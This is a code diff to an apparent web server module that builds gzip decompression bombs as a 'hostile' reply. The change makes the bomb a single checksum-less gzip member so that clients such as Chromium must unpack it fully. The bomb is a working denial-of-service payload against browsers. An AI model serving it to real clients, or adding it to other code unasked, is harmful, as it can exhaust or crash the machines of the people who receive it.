@@ -1,5 +1,5 @@
 import type { ServerResponse } from 'node:http';
-import { constants, gzipSync } from 'node:zlib';
+import { constants, deflateRawSync } from 'node:zlib';
 import type { WebReply } from './webConfig.ts';
 
 type HostileReply = Exclude<WebReply, { kind: 'text' | 'redirect' | 'forward' | 'bytes' | 'computed' }>;
@@ -48,10 +48,12 @@ const stream = (response: ServerResponse, bytes: number): void => {
 const MEBIBYTE = 1_048_576;
 
 /**
- * Concatenates gzip members of one mebibyte of zeros each (allowed by RFC 1952 §2.2), so that the bomb is built in milliseconds without ever holding the
- * unpacked data.
+ * Repeats one compressed mebibyte of zeros within a single gzip member (RFC 1952 §2.3), so that the bomb is built in milliseconds without ever holding the
+ * unpacked data. Clients that read the first member only, as Chromium does, have to unpack it all. Nobody gets as far as its checksum, which is missing.
  */
 const bombOf = (unpackedBytes: number): Buffer => {
-  const member = gzipSync(Buffer.alloc(MEBIBYTE), { level: constants.Z_BEST_COMPRESSION });
-  return Buffer.concat(Array.from({ length: Math.ceil(unpackedBytes / MEBIBYTE) }, () => member));
+  const options = { level: constants.Z_BEST_COMPRESSION, finishFlush: constants.Z_FULL_FLUSH };
+  const mebibyte = deflateRawSync(Buffer.alloc(MEBIBYTE), options);
+  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
+  return Buffer.concat([header, ...Array.from({ length: Math.ceil(unpackedBytes / MEBIBYTE) }, () => mebibyte)]);
 };
